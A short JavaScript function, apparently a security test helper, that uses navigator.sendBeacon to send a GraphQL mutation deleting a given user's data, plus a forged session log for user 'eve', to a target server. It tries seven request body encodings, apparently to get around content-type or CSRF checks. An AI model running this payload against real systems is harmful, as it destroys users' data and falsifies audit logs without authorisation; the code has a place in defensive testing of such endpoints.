/** Sends beacons that erase and record. Returns how many. */
({ target, userId }) => {
  const erase = `mutation { deleteUserData(userId: "${userId}") { deletedCount } }`;
  const session = { userId: 'eve', sessionId: 's', actions: [{ time: '2026-01-01T00:00:00Z', type: 'T' }] };
  let count = 0;
  for (const [path, value] of [
    ['/graphql', { query: erase }],
    ['/logs/', session],
  ]) {
    const text = JSON.stringify(value);
    const form = new FormData();
    form.append('operations', text);
    const bodies = [
      text,
      new Blob([text]),
      new Blob([text], { type: 'text/plain' }),
      new Blob([text], { type: 'application/json' }),
      new TextEncoder().encode(text),
      new URLSearchParams(text),
      form,
    ];
    for (const body of bodies) if (navigator.sendBeacon(target + path, body)) count++;
  }
  return count;
};
